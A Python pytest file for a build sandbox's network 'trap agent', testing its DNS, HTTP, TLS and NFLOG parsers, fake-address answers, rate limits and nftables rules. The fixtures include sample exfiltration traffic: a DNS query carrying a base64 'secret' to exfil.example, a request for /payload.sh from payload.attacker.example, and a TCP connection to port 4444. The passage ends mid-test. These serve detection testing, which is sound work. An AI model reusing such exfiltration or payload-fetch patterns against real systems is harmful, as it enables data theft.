"""Unit tests for the trap agent's pure parts: parsers, answers, limits, rules, attribution.

Nothing here touches the network configuration of the host: the agent's ``main`` is never
called; namespace work is covered by tests/integration/test_trap_agent.py.
"""

from __future__ import annotations

import ast
import base64
import contextlib
import io
import ipaddress
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import tarfile
import time
import zlib
from pathlib import Path
from unittest import mock

import pytest

from reprobuild.archive import ExtractLimits, extract_regular_files
from reprobuild.images import ToolchainImage
from reprobuild.incontainer import trap_agent as ta
from reprobuild.sandbox import agent as trap

AGENT = Path(ta.__file__)

# Captured from the kernel (nfnetlink_log, group 9) in a --network none container, uid 1000:
# a UDP DNS query for c2VjcmV0.exfil.example to 192.0.2.53:53 from 198.18.0.1:40000,
NFLOG_UDP_DNS = bytes.fromhex(
    "8c0000000004000000000000000000000200000908000100080003000f000a007262747261702d7564700000"
    "080005000000000108000b00000003e808000e00000003e84800090045000044c29240004011efcdc6120001"
    "c00002359c4000350030888a123401000001000000000000086332566a636d563005657866696c076578616d"
    "706c650000010001")
# a TCP SYN to [2001:db8::5]:80 from fd00:7e57::1,
NFLOG_TCP6_SYN = bytes.fromhex(
    "980000000004000000000000000000000a0000090800010086dd03000f000a007262747261702d6e65770000"
    "080005000000000108000b00000003e808000e00000003e8540009006008bd0d00280640fd007e5700000000"
    "000000000000000120010db800000000000000000000000595d40050d8ec67be00000000a002ffc4a9450000"
    "0204ffc40402080ae1d20158000000000103030a")
# and an ICMP echo request (ping socket) to 192.0.2.1 with sequence 7.
NFLOG_ICMP = bytes.fromhex(
    "680000000004000000000000000000000200000908000100080003000f000a007262747261702d6e65770000"
    "080005000000000108000b00000003e808000e00000003e8220009004500001ec7f540004001ead4c6120001"
    "c00002010800ec70a31e000768690000")

# ``nft -j list ruleset`` after loading build_nft_ruleset(Config()) (nftables 1.0.6).
NFT_LISTING = json.loads(zlib.decompress(base64.b64decode(
    "eNrtWFFv2jAQft+vYN4rVEkg0CH1eS/7Bwghk1yIixN7jrOBUP77fE5QmzbAUJO0TBUPOLnz3fed73yODySNNF1zyMh8"
    "sDiQBDRlaSTM04H8BpUxkZoxce+cuykZDogCDjSDVUoTQMFPyDSowQ8hgnjwzUeVx0ykqyyIIaGrJxNuUQyNTevMWo9o"
    "wvgebbAUNE482lQglVjnjIcrrahEUUzT0M6rzASxgXnCzNFFk52jCy42K5Hrummcu5dWHjFuaFmxEFt8Y7RlOUEqhvEZ"
    "ub6DT4KzwPqnQQBSk3YAplS/Aug9A2jkF9A5HaIrw/MK4Pi6CJ4BqPKTWXIO35FX4/pOzAPspKoyneogti6ExBkPD6jM"
    "IdL2JRaCHWzBek+o2lpsRLFNjDpjbzwZV2hB5wr9pjnnxbI7Cv41FAL9nEDIFAQaa7HGAiEYcD3zmF3DQ9I9FzQsx0po"
    "EQhuUVg/EQMeWoI0DFWdHOpDxHZ2aMW4lXkzs5mZX+kEMd4XRcn1JZKv55OCTyyel04zwP/FdDhwZ8ui59De32ZoTyHR"
    "cR2JFErXkfh9F6HrtBPi6aUYk/ncJf9NYrruhwvbLSWd95bu1ZgP7qyEa9zVC5qoNWIa5aHFtVEil9WmnaVUloXtW0S/"
    "cshhpGMFWSxstMwBrcswjDsLQ39Lef4gYiae7uKZphpepHsKf8iFlUSVd1zJpsOs69/WcayRw/Sz2XYd4tln13hD9Fo5"
    "DVZ94N+Yld8ZpQ1UM99dMwfFXdL83npXmJ7l43S7N3pOh12umZDXGqETdwOe29l+X90ctFtOp2h4rTbvBYEM4bAshrC6"
    "XzNKIVm+A7XxB+1mvQZh0n+/6ZWf391W+XjcV453gDqQA3OeBGwWHdOqn8QasLAgkTvypGUyL2HpyHiK2ZphyVmMy+LL"
    "Xz4vG9Y="
)))


def dns_query(name: str, qtype: int = 1, ident: int = 0x1234, flags: int = 0x0100) -> bytes:
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".") if p)
    return struct.pack("!HHHHHH", ident, flags, 1, 0, 0, 1) + labels + b"\0" + \
        struct.pack("!HH", qtype, 1) + b"\0\0\x29\x04\xd0\0\0\0\0\0\0"  # + EDNS OPT


def client_hello(server_hostname: str | None, alpn: list[str] | None = None) -> bytes:
    ctx = ssl.create_default_context()
    if alpn:
        ctx.set_alpn_protocols(alpn)
    if server_hostname is None:
        ctx.check_hostname = False
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(incoming, outgoing, server_hostname=server_hostname)
    with pytest.raises(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


# --------------------------------------------------------------------------- the program

def test_agent_is_standalone_stdlib_only_and_small() -> None:
    source = AGENT.read_text()
    # It travels compressed (the command test below checks the argument's size); this
    # only stops it from growing without bound.
    assert len(source.encode()) < 150_000
    tree = ast.parse(source)
    modules = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            modules |= {alias.name.split(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom):
            assert node.level == 0, "no relative imports"
            modules.add((node.module or "").split(".")[0])
    assert "reprobuild" not in modules
    assert modules <= set(sys.stdlib_module_names) | {"__future__"}, modules


def test_agent_runs_as_isolated_dash_c_program() -> None:
    # --help exits while parsing the options, before anything touches the network.
    proc = subprocess.run([sys.executable, "-I", "-S", "-c", AGENT.read_text(), "--help"],
                          capture_output=True, text=True, timeout=30, check=False)
    assert proc.returncode == 0, proc.stderr
    assert "--nflog-group" in proc.stdout


@pytest.mark.parametrize("python", [trap.HOST_PYTHON, "3.99"])
def test_the_loader_runs_the_agent_from_stdin_precompiled_or_from_source(python: str) -> None:
    command = list(trap.AGENT_COMMAND)
    assert command[:4] == [trap.AGENT_PYTHON, "-I", "-S", "-c"] and len(command) == 5
    assert len(command[4]) < 1000  # the engine stores and copies the command at every step
    payload = trap.agent_payload(python)
    assert payload[:1] == (b"m" if python == trap.HOST_PYTHON else b"s")
    proc = subprocess.run([sys.executable, *command[1:], "--help"], input=payload,
                          capture_output=True, timeout=30, check=False)
    assert proc.returncode == 0, proc.stderr
    assert b"--nflog-group" in proc.stdout
    assert b"usage: reprobuild-trap-agent [-h]" in proc.stdout


def test_the_loader_takes_exactly_the_agent_off_stdin_and_leaves_no_names() -> None:
    """What follows the agent on stdin is the source tar: the build must get every byte of
    it, so the loader reads unbuffered, exactly the header's length, even in short reads."""
    program = (b"print(sorted(k for k in globals() if not k.startswith('__')), __name__)\n"
               b"print(__import__('sys').stdin.buffer.read().decode())\n")
    header = b"s%016d\n" % len(program)
    rest = "after the agent " * 20000  # ~320 KB: more than a pipe holds, so reads are short
    proc = subprocess.run([sys.executable, *trap.AGENT_COMMAND[1:]],
                          input=header + program + rest.encode(), capture_output=True,
                          timeout=30, check=False)
    assert proc.returncode == 0, proc.stderr
    names, text = proc.stdout.decode().split("\n", 1)
    assert names == "[] __main__"
    assert text == rest + "\n"
    cut = subprocess.run([sys.executable, *trap.AGENT_COMMAND[1:]], input=header + program[:9],
                         capture_output=True, timeout=30, check=False)
    assert cut.returncode == 1
    assert b"stdin ended before the agent did" in cut.stderr


def _python_of(versions: tuple[tuple[str, str], ...]) -> str | None:
    return ToolchainImage(name="t", tag="t", image_id="i", definition_sha256="d",
                          versions=versions, path_env="").python


def test_image_python_comes_from_the_pinned_packages() -> None:
    assert _python_of((("python3", "3.11.2-1+b1"), ("python3.11", "3.11.2-6"),
                       ("python3.11-minimal", "3.11.2-6"), ("uv", "0.13.8"))) == "3.11"
    assert _python_of((("python3", "3.13.5-1"),)) is None  # no minor: compile there
    assert _python_of((("python3.11", "x"), ("python3.13", "y"))) is None


def test_args_reject_clashing_ports() -> None:
    with pytest.raises(SystemExit):
        ta.parse_args(["--tcp-port", "47053"])
    cfg = ta.parse_args(["--tcp-port", "50000", "--ipv6", "off", "--no-selftest"])
    assert (cfg.tcp_port, cfg.ipv6, cfg.selftest) == (50000, "off", False)


@pytest.mark.parametrize(("argv", "says"), [
    (["--tcp-port"], "--tcp-port expects a value"),
    (["--tcp-port", "0x10"], "invalid int value: '0x10'"),
    (["--rate", "fast"], "invalid float value"),
    (["--ipv6", "maybe"], "is not one of auto, require, off"),
    (["--selftest"], "unrecognized argument: --selftest"),  # on by default: only --no-
    (["--no-tcp-port", "1"], "unrecognized argument: --no-tcp-port"),
    (["--tcp_port", "50000"], "unrecognized argument"),
    (["--tcp-port=50000"], "unrecognized argument"),
    (["stray"], "unrecognized argument: stray"),
])
def test_args_refuse_what_they_do_not_know_with_one_line_and_exit_2(
        argv: list[str], says: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exc:
        ta.parse_args(argv)
    assert exc.value.code == 2
    err = capsys.readouterr().err
    assert err.startswith("reprobuild-trap-agent: error: ") and says in err, err
    assert err.count("\n") == 1


def test_args_take_any_value_after_an_option_and_every_field_has_one() -> None:
    """A script may start with a dash (argparse would take it for an option)."""
    cfg = ta.parse_args(["--build-script", "-x", "--build-uid", "7", "--build-gid", "8",
                         "--rate", "2.5", "--no-trap", "--no-selftest"])
    assert (cfg.build_script, cfg.build_uid, cfg.build_gid, cfg.rate, cfg.trap,
            cfg.selftest) == ("-x", 7, 8, 2.5, False, False)
    for name, value in vars(ta.Config()).items():
        flag = name.replace("_", "-")
        assert (f"--no-{flag}" if isinstance(value, bool) else f"--{flag} ") in \
            ta.usage(vars(ta.Config()))


def test_args_refuse_a_root_build_and_an_agent_with_nothing_to_do() -> None:
    for argv in (["--build-script", "true"],
                 ["--build-script", "true", "--build-uid", "0", "--build-gid", "1000"],
                 ["--build-script", "true", "--build-uid", "1000", "--build-gid", "0"],
                 ["--no-trap"]):
        with pytest.raises(SystemExit):
            ta.parse_args(argv)
    args = trap.agent_arguments(script="make 'x y'", uid=2000, gid=2001, log_bytes=4096,
                                trap=False)
    cfg = ta.parse_args(args)
    assert (cfg.build_script, cfg.build_uid, cfg.build_gid, cfg.log_bytes, cfg.trap) == (
        "make 'x y'", 2000, 2001, 4096, False)
    assert ta.parse_args(trap.agent_arguments(script="s", uid=1, gid=1, log_bytes=1,
                                              trap=True)).trap is True


def test_the_build_command_drops_every_privilege() -> None:
    cfg = ta.Config(build_script="echo hi", build_uid=1000, build_gid=1001)
    argv = ta.build_argv(cfg)
    assert argv[0] == ta.SETPRIV and argv[-4:] == ["--", "/bin/sh", "-c", "echo hi"]
    assert {"--reuid=1000", "--regid=1001", "--clear-groups", "--inh-caps=-all",
            "--ambient-caps=-all", "--bounding-set=-all", "--no-new-privs"} <= set(argv)


def test_the_build_gets_its_own_home() -> None:
    assert ta.build_home(0) == "/root"
    assert ta.build_home(987_654_321) == "/"  # no passwd entry: what Docker would give


def test_exit_codes_read_like_a_shell() -> None:
    assert ta.exit_code(3 << 8) == 3
    assert ta.exit_code(9) == 137  # killed by SIGKILL
    assert ta.exit_code(0) == 0


def test_output_relay_keeps_head_and_tail_within_the_budget() -> None:
    relay = ta.OutputRelay(10)
    assert relay.feed(b"abc") == b"abc"
    assert relay.feed(b"defgh") == b"de"  # the head (5 bytes) is full
    assert relay.feed(b"ijklmnop") == b""
    assert relay.finish() == b"\n[reprobuild: 6 bytes of build output left out here]\nlmnop"
    small = ta.OutputRelay(100)
    assert small.feed(b"x" * 60) == b"x" * 50 and small.finish() == b"x" * 10  # nothing lost


def test_proc_ids_read_the_real_uid_and_gid() -> None:
    status = "Name:\tsh\nUid:\t1000\t1000\t1000\t1000\nGid:\t1001\t1001\t1001\t1001\n"
    assert ta.proc_ids(status) == (1000, 1001)
    assert ta.proc_ids("Name:\tsh\n") is None


def test_build_exit_line_is_parsed() -> None:
    text = ("REPROBUILD-TRAP-READY {}\n"
            'REPROBUILD-BUILD-EXIT {"code": 4, "stopped": false, "leftovers": 2, '
            '"output_dropped": 10, "error": null}\n')
    assert trap.build_exit(text) == trap.BuildExit(code=4, stopped=False, leftovers=2,
                                                   output_dropped=10, error=None)
    assert trap.build_exit("REPROBUILD-TRAP-READY {}\n") is None
    broken = trap.build_exit("REPROBUILD-BUILD-EXIT {nope\n")
    assert broken is not None and broken.error and broken.code is None


@pytest.mark.skipif(os.geteuid() != 0 or not Path(ta.SETPRIV).exists(),
                    reason="starting a build as another uid needs root and setpriv")
def test_supervisor_runs_the_build_unprivileged_and_relays_its_output() -> None:
    """The real supervisor on the host (not PID 1 here, so it only kills its own child)."""
    script = ("id -u; id -G; grep -E '^Cap(Eff|Prm|Bnd|Inh|Amb)' /proc/self/status; "
              "cat /proc/self/oom_score_adj; "
              "echo to-stderr >&2; read -r line || true; echo \"stdin=$line\"; exit 3")
    cfg = ta.Config(build_script=script, build_uid=65534, build_gid=65534, log_bytes=1 << 20)
    our_adj = Path("/proc/self/oom_score_adj").read_text()
    read_fd, write_fd = os.pipe()
    stdin_r, stdin_w = os.pipe()
    saved = os.dup(0)
    try:
        os.dup2(stdin_r, 0)  # the build inherits the agent's stdin (the host's source tar)
        sup = ta.Supervisor(cfg, out_fd=write_fd)
        sup.start()
    finally:
        os.dup2(saved, 0)
        os.close(saved)
        os.close(stdin_r)
    os.write(stdin_w, b"hello\n")
    os.close(stdin_w)
    deadline = time.monotonic() + 30
    while not sup.exited():
        assert time.monotonic() < deadline
        sup.pump()
        time.sleep(0.01)
    out = io.StringIO()
    sup.finish(ta.EventLog(out, rate=10, burst=10, cap=10, forged_cap=10), stopped=False)
    os.close(write_fd)
    with os.fdopen(read_fd, "rb") as reader:
        relayed = reader.read().decode()
    lines = relayed.splitlines()
    assert lines[:2] == ["65534", "65534"]
    assert all(line.split()[1] == "0000000000000000" for line in lines[2:7]), relayed
    # The OOM killer takes the build before the agent; the agent went back to its own.
    assert lines[7] == "1000" and Path("/proc/self/oom_score_adj").read_text() == our_adj
    assert "to-stderr" in relayed and "stdin=hello" in relayed
    assert trap.build_exit(out.getvalue()) == trap.BuildExit(
        code=3, stopped=False, leftovers=0, output_dropped=0, error=None)


def test_refuses_a_namespace_with_other_interfaces(tmp_path: Path) -> None:
    (tmp_path / "lo").mkdir()
    ta.check_only_loopback(tmp_path)
    (tmp_path / "eth0").mkdir()
    with pytest.raises(ta.SetupError, match="only lo"):
        ta.check_only_loopback(tmp_path)


# --------------------------------------------------------------------------- DNS

def test_dns_query_parse() -> None:
    query = ta.parse_dns_query(dns_query("c2VjcmV0.Exfil.example", 28, ident=77))
    assert (query.ident, query.name, query.qtype_name, query.qclass, query.rd) == (
        77, "c2VjcmV0.Exfil.example", "AAAA", 1, True)
    assert query.key == "c2vjcmv0.exfil.example"
    assert ta.parse_dns_query(dns_query("x.test", 65)).qtype_name == "HTTPS"
    assert ta.parse_dns_query(dns_query("x.test", 4242)).qtype_name == "TYPE4242"


def test_dns_name_escapes_unprintable_and_dots() -> None:
    msg = struct.pack("!HHHHHH", 1, 0, 1, 0, 0, 0) + b"\x03a.b\x02\x00\xff\x04test\x00" + \
        struct.pack("!HH", 1, 1)
    assert ta.parse_dns_query(msg).name == "a\\046b.\\000\\255.test"


@pytest.mark.parametrize("msg", [
    b"",
    b"\x12\x34\x01\x00",
    struct.pack("!HHHHHH", 1, 0, 2, 0, 0, 0) + b"\x01a\x00\x00\x01\x00\x01",   # 2 questions
    struct.pack("!HHHHHH", 1, 0x8000, 1, 0, 0, 0) + b"\x01a\x00\x00\x01\x00\x01",  # response
    struct.pack("!HHHHHH", 1, 0, 1, 0, 0, 0) + b"\xc0\x0c\x00\x01\x00\x01",    # pointer loop
    struct.pack("!HHHHHH", 1, 0, 1, 0, 0, 0) + b"\x05ab",                      # truncated
    struct.pack("!HHHHHH", 1, 0, 1, 0, 0, 0) + b"\x3fa" + b"\x00",            # short label
    struct.pack("!HHHHHH", 1, 0, 1, 0, 0, 0) + (b"\x3f" + b"a" * 63) * 5 + b"\x00\x00\x01\x00\x01",
])
def test_dns_query_parse_rejects_bad_input(msg: bytes) -> None:
    with pytest.raises(ta.DnsError):
        ta.parse_dns_query(msg)


def _answers(reply: bytes) -> tuple[int, int, int, list[tuple[int, int, bytes]]]:
    ident, flags, qd, an = struct.unpack("!HHHH", reply[:8])
    assert qd == 1
    _name, pos = ta.read_dns_name(reply, 12)
    pos += 4
    records = []
    for _ in range(an):
        _rname, pos = ta.read_dns_name(reply, pos)
        rtype, _rclass, ttl, size = struct.unpack("!HHIH", reply[pos:pos + 10])
        records.append((rtype, ttl, reply[pos + 10:pos + 10 + size]))
        pos += 10 + size
    assert pos == len(reply)
    return ident, flags, an, records


def test_dns_answers_fake_addresses_with_ttl_zero() -> None:
    fakes = ta.FakeAddresses()
    reply, what = ta.answer_dns(ta.parse_dns_query(dns_query("beacon.example", ident=9)), fakes)
    ident, flags, _an, records = _answers(reply)
    assert ident == 9
    assert flags & 0x8000 and flags & 0x0400 and flags & 0x0100  # QR, AA, RD copied
    assert flags & 0xF == 0
    [(rtype, ttl, rdata)] = records
    assert (rtype, ttl) == (1, 0)
    address = socket.inet_ntoa(rdata)
    assert ipaddress.ip_address(address) in ipaddress.ip_network("198.18.0.0/15")
    assert what == f"answered {address}"
    assert fakes.name_for(address) == "beacon.example"
    reply6, _ = ta.answer_dns(ta.parse_dns_query(dns_query("BEACON.example.", 28)), fakes)
    [(rtype6, ttl6, rdata6)] = _answers(reply6)[3]
    address6 = socket.inet_ntop(socket.AF_INET6, rdata6)
    assert (rtype6, ttl6) == (28, 0)
    assert ipaddress.ip_address(address6) in ipaddress.ip_network("fd00:7e57:0:1::/64")
    assert fakes.name_for(address6) == "beacon.example"
    assert len(fakes) == 1


def test_dns_other_types_get_nodata_and_opcodes_notimp() -> None:
    fakes = ta.FakeAddresses()
    reply, what = ta.answer_dns(ta.parse_dns_query(dns_query("x.example", 16)), fakes)
    assert what == "NODATA"
    assert _answers(reply)[2] == 0
    assert _answers(reply)[1] & 0xF == 0
    notify = dns_query("x.example", 1, flags=4 << 11)
    reply, what = ta.answer_dns(ta.parse_dns_query(notify), fakes)
    assert what == "NOTIMP"
    assert _answers(reply)[1] & 0xF == 4
    assert len(fakes) == 0


def test_dns_error_response_keeps_the_id() -> None:
    reply = ta.dns_error_response(b"\xbe\xef\x01\x00garbage", 1)
    assert reply is not None
    assert reply[:2] == b"\xbe\xef"
    assert struct.unpack("!H", reply[2:4])[0] & 0x800F == 0x8001
    assert ta.dns_error_response(b"\x00", 1) is None
    assert ta.dns_error_response(b"\xbe\xef\x81\x00", 1) is None  # a response: no reply


def test_fake_address_allocator() -> None:
    fakes = ta.FakeAddresses(limit=3)
    first = fakes.index_for("a.example")
    assert first == 0
    assert fakes.index_for("A.EXAMPLE.") == 0
    assert fakes.index_for("b.example") == 1
    assert fakes.v4(0) == "198.18.1.0" and fakes.v4(1) == "198.18.1.1"
    assert fakes.v6(0) == "fd00:7e57:0:1::1"
    assert fakes.name_for("198.18.1.1") == "b.example"
    assert fakes.name_for("::ffff:198.18.1.0") == "a.example"
    assert fakes.name_for("fd00:7e57:0:1::2") == "b.example"
    assert fakes.name_for("198.18.1.2") is None  # not handed out
    assert fakes.name_for("203.0.113.7") is None
    assert fakes.name_for("not an address") is None
    assert fakes.index_for("c.example") == 2
    assert fakes.index_for("d.example") is None  # exhausted
    assert ta.FakeAddresses().limit == 65536
    pool = ta.FakeAddresses(limit=10**9)
    assert ipaddress.ip_address(pool.v4(pool.limit - 1)) == ipaddress.ip_address("198.19.255.254")


# --------------------------------------------------------------------------- HTTP and TLS

def test_http_request_line_and_host() -> None:
    request = ta.parse_http_request(
        b"GET /payload.sh HTTP/1.1\r\nUser-Agent: curl\r\nhOsT: payload.attacker.example:8080"
        b"\r\n\r\nbody")
    assert request is not None
    assert request.request_line == "GET /payload.sh HTTP/1.1"
    assert request.host == "payload.attacker.example:8080"
    assert request.hostname == "payload.attacker.example"
    assert request.complete


def test_http_variants() -> None:
    partial = ta.parse_http_request(b"POST /x HTTP/1.0\r\nHost: a.example\r\n")
    assert partial is not None and not partial.complete and partial.hostname == "a.example"
    connect = ta.parse_http_request(b"CONNECT beacon.example:443 HTTP/1.1\r\n\r\n")
    assert connect is not None and connect.hostname == "beacon.example"
    absolute = ta.parse_http_request(b"GET http://proxy.example/x HTTP/1.1\r\n\r\n")
    assert absolute is not None and absolute.hostname == "proxy.example"
    literal = ta.parse_http_request(b"GET / HTTP/1.1\r\nHost: [2001:db8::5]\r\n\r\n")
    assert literal is not None and literal.host == "[2001:db8::5]" and literal.hostname is None
    assert ta.parse_http_request(b"GET / HTTP/1.1") is None          # no line end yet
    assert ta.parse_http_request(b"SSH-2.0-OpenSSH_9.2\r\n") is None
    assert ta.looks_like_http(b"GET /") and not ta.looks_like_http(b"\x16\x03\x01")
    evil = ta.parse_http_request(b"GET /\x1b[31m HTTP/1.1\r\nHost: a\x00b\r\n\r\n")
    assert evil is not None
    assert "\x1b" not in evil.target and "\x00" not in (evil.host or "")


def test_tls_sni_alpn_from_a_real_client_hello() -> None:
    hello = client_hello("beacon.example", ["h2", "http/1.1"])
    assert ta.looks_like_tls(hello)
    parsed = ta.parse_tls_client_hello(hello)
    assert parsed.status == "ok"
    assert parsed.sni == "beacon.example"
    assert parsed.alpn == ("h2", "http/1.1")
    assert 0x0304 in parsed.versions


def test_tls_without_sni_incomplete_and_invalid() -> None:
    no_sni = ta.parse_tls_client_hello(client_hello(None))
    assert no_sni.status == "ok" and no_sni.sni is None
    hello = client_hello("beacon.example")
    for cut in (1, 5, 9, len(hello) - 1):
        assert ta.parse_tls_client_hello(hello[:cut]).status == "incomplete"
    assert ta.parse_tls_client_hello(b"\x17\x03\x03\x00\x05hello").status == "invalid"
    assert ta.parse_tls_client_hello(b"\x16\x03\x01\x00\x04\x02\x00\x00\x00").status == "invalid"
    junk = b"\x16\x03\x01\x00\x0a\x01\x00\x00\x06\x03\x03\xff\xff\xff\xff"
    assert ta.parse_tls_client_hello(junk).status == "invalid"


def test_tls_client_hello_split_over_two_records() -> None:
    hello = client_hello("split.example")
    body = hello[5:]
    half = len(body) // 2
    records = (b"\x16\x03\x01" + struct.pack("!H", half) + body[:half]
               + b"\x16\x03\x01" + struct.pack("!H", len(body) - half) + body[half:])
    assert ta.parse_tls_client_hello(records).sni == "split.example"
    assert ta.parse_tls_client_hello(records[:-3]).status == "incomplete"


def test_describe_tcp_first_bytes() -> None:
    assert ta.Trap._describe_tcp(b"GET /x HTTP/1.1\r\nHost: h.example\r\n\r\n") == (
        "http", "h.example", "GET /x HTTP/1.1")
    kind, name, detail = ta.Trap._describe_tcp(client_hello("s.example"))
    assert (kind, name) == ("tls", "s.example") and detail.startswith("TLS ClientHello")
    kind, name, detail = ta.Trap._describe_tcp(b"beacon\n" + bytes(range(100)))
    assert (kind, name) == ("tcp", None)
    assert detail.startswith("hex=626561636f6e0a00") and "(+43 bytes)" in detail
    assert ta.Trap._describe_tcp(b"") == ("tcp", None, "no data")


def test_printable_and_first_bytes() -> None:
    assert ta.printable(b"ok\\\n\x7f") == "ok\\x5c\\x0a\\x7f"
    assert ta.printable(b"a" * 10, 4) == "aaaa..."
    assert ta.first_bytes_detail(b"hi\x00") == "hex=686900 text=hi."


# --------------------------------------------------------------------------- NFLOG

def test_nflog_udp_dns_record() -> None:
    [record] = ta.parse_nflog_buffer(NFLOG_UDP_DNS)
    pkt = record.packet
    assert (pkt.family, pkt.proto_name, pkt.src, pkt.sport, pkt.dst, pkt.dport) == (
        4, "udp", "198.18.0.1", 40000, "192.0.2.53", 53)
    assert (record.uid, record.gid, record.prefix) == (1000, 1000, "rbtrap-udp")
    assert ta.parse_dns_query(pkt.payload).name == "c2VjcmV0.exfil.example"


def test_nflog_tcp6_syn_record() -> None:
    [record] = ta.parse_nflog_buffer(NFLOG_TCP6_SYN)
    pkt = record.packet
    assert (pkt.family, pkt.proto_name, pkt.src, pkt.dst, pkt.dport) == (
        6, "tcp", "fd00:7e57::1", "2001:db8::5", 80)
    assert pkt.payload == b""
    assert (record.uid, record.prefix) == (1000, "rbtrap-new")


def test_nflog_icmp_record() -> None:
    [record] = ta.parse_nflog_buffer(NFLOG_ICMP)
    pkt = record.packet
    assert (pkt.family, pkt.proto_name, pkt.dst, pkt.icmp_type, pkt.icmp_seq) == (
        4, "icmp", "192.0.2.1", 8, 7)
    assert pkt.icmp_id is not None and pkt.payload == b"hi"


def test_nflog_several_messages_and_garbage() -> None:
    both = NFLOG_UDP_DNS + NFLOG_ICMP
    assert [r.packet.proto for r in ta.parse_nflog_buffer(both)] == [17, 1]
    assert ta.parse_nflog_buffer(b"") == []
    assert ta.parse_nflog_buffer(b"\xff" * 40) == []
    assert ta.parse_nflog_buffer(NFLOG_UDP_DNS[:-30]) == []   # truncated: message dropped
    # A non-packet message type (config ack) is ignored.
    assert ta.parse_nflog_message((4 << 8) | 1, NFLOG_UDP_DNS[16:]) is None


def test_ip_packet_parser_edge_cases() -> None:
    assert ta.parse_ip_packet(b"") is None
    assert ta.parse_ip_packet(b"\x45" + b"\0" * 10) is None
    assert ta.parse_ip_packet(b"\x70" + b"\0" * 40) is None
    v4 = bytes.fromhex("4500001c000000004084" + "0000" + "c6120001" + "c0000209")
    other = ta.parse_ip_packet(v4 + b"\x13\x88\x00\x07")
    assert other is not None and other.proto_name == "sctp" and other.dport == 7
    fragment = bytearray(v4)
    fragment[6:8] = b"\x00\x10"
    frag = ta.parse_ip_packet(bytes(fragment) + b"\0" * 8)
    assert frag is not None and frag.dport is None
    # IPv6 with a hop-by-hop header before UDP.
    v6 = (bytes.fromhex("60000000001000") + b"\x40"[:0] + b"\x40" +
          socket.inet_pton(socket.AF_INET6, "fd00:7e57::1") +
          socket.inet_pton(socket.AF_INET6, "2001:db8::9"))
    v6 = v6[:6] + b"\x00" + v6[7:]
    hop = b"\x11\x00" + b"\x01\x04\x00\x00\x00\x00"
    udp = struct.pack("!HHHH", 5000, 9999, 12, 0) + b"abcd"
    parsed = ta.parse_ip_packet(v6 + hop + udp)
    assert parsed is not None
    assert (parsed.proto, parsed.dst, parsed.dport, parsed.payload) == (
        17, "2001:db8::9", 9999, b"abcd")


def test_nflog_config_message_layout() -> None:
    msg = ta.nflog_config_message(7, ta.nl_attr(ta.NFULA_CFG_CMD, b"\x01"), seq=3)
    length, mtype, flags, seq, _pid = struct.unpack("=IHHII", msg[:16])
    assert (length, mtype, seq) == (len(msg), (4 << 8) | 1, 3)
    assert flags == ta.NLM_F_REQUEST | ta.NLM_F_ACK
    assert msg[16:20] == b"\x00\x00\x00\x07"      # AF_UNSPEC, v0, group 7 big-endian
    assert list(ta.iter_attrs(msg[20:])) == [(ta.NFULA_CFG_CMD, b"\x01")]
    assert len(msg) % 4 == 0


# --------------------------------------------------------------------------- limits

def test_rate_limiter_burst_refill_and_cap() -> None:
    limiter = ta.RateLimiter(rate=10, burst=5, cap=12)
    assert [limiter.allow(0.0) for _ in range(7)] == [True] * 5 + [False] * 2
    assert limiter.allow(0.05) is False        # half a token
    assert limiter.allow(0.2) is True          # refilled
    assert [limiter.allow(10.0) for _ in range(10)].count(True) == 5  # refill stops at burst
    assert [limiter.allow(20.0) for _ in range(5)] == [True] + [False] * 4  # lifetime cap 12
    assert limiter.allow(100.0) is False
    assert (limiter.allowed, limiter.dropped) == (12, 13)


class Clock:
    def __init__(self) -> None:
        self.now = 100.0

    def __call__(self) -> float:
        return self.now


def test_event_log_schema_drops_and_forged_budget() -> None:
    out = io.StringIO()
    clock = Clock()
    log = ta.EventLog(out, rate=1, burst=3, cap=100, forged_cap=2, clock=clock)
    log.t0 = 90.0
    for i in range(5):
        log.emit(ta.new_event("forged", forged=True, detail=f"f{i}"))
    for i in range(5):
        log.emit(ta.new_event("tcp", dst="203.0.113.7", dport=4444, detail=f"line\n{i}"))
    clock.now = 106.0
    log.tick()
    lines = out.getvalue().splitlines()
    events = [json.loads(line) for line in lines]
    assert [e["kind"] for e in events] == ["forged", "tcp", "tcp", "tcp", "dropped"]
    assert [e["seq"] for e in events] == [1, 2, 3, 4, 5]
    assert events[0]["time"] == 10.0
    assert events[-1]["count"] == 6 and events[-1]["time"] == 16.0
    assert all(list(e) == list(ta.EVENT_FIELDS) for e in events)
    assert all(e["kind"] in ta.EVENT_KINDS for e in events)
    log.tick(final=True)
    assert len(out.getvalue().splitlines()) == 5  # nothing more to report
    with pytest.raises(KeyError):
        ta.new_event("tcp", not_a_field=1)


# --------------------------------------------------------------------------- rules

def test_nft_ruleset_text() -> None:
    cfg = ta.Config(tcp_port=41000, udp_port=41001, dns_port=41002, nflog_group=3)
    text = ta.build_nft_ruleset(cfg)
    assert "table inet reprobuild_trap" in text
    for needle in ("redirect to :41000", "redirect to :41001", "udp dport 53 redirect to :41002",
                   "log prefix \"rbtrap-new\" group 3", "meta mark 0x00007e57",
                   "reject with icmpx type admin-prohibited"):
        assert needle in text


def test_address_commands_name_each_family_in_one_batch() -> None:
    cfg = ta.Config()
    v4_only = ta.address_commands(cfg, v6=False).splitlines()
    assert v4_only == ["link set lo up", f"addr replace {cfg.lo4}/32 dev lo",
                       f"route replace default dev lo src {cfg.lo4}"]
    both = ta.address_commands(cfg, v6=True).splitlines()
    assert both[:3] == v4_only
    # "default" without -6 would be IPv4's: the IPv6 default route is spelled ::/0.
    assert both[3:] == [f"addr replace {cfg.lo6}/128 dev lo nodad",
                        f"route replace ::/0 dev lo src {cfg.lo6}"]


def test_nft_verification_accepts_the_real_listing() -> None:
    assert ta.verify_nft_json(NFT_LISTING, ta.Config()) == []


def test_nft_verification_catches_tampering() -> None:
    cfg = ta.Config()
    items = NFT_LISTING["nftables"]
    without_redirects = {"nftables": [
        i for i in items if not ("rule" in i and "redirect" in json.dumps(i))]}
    assert any("nat_out has 3 rules" in p for p in ta.verify_nft_json(without_redirects, cfg))
    extra_table = {"nftables": [*items, {"table": {"family": "ip", "name": "other"}}]}
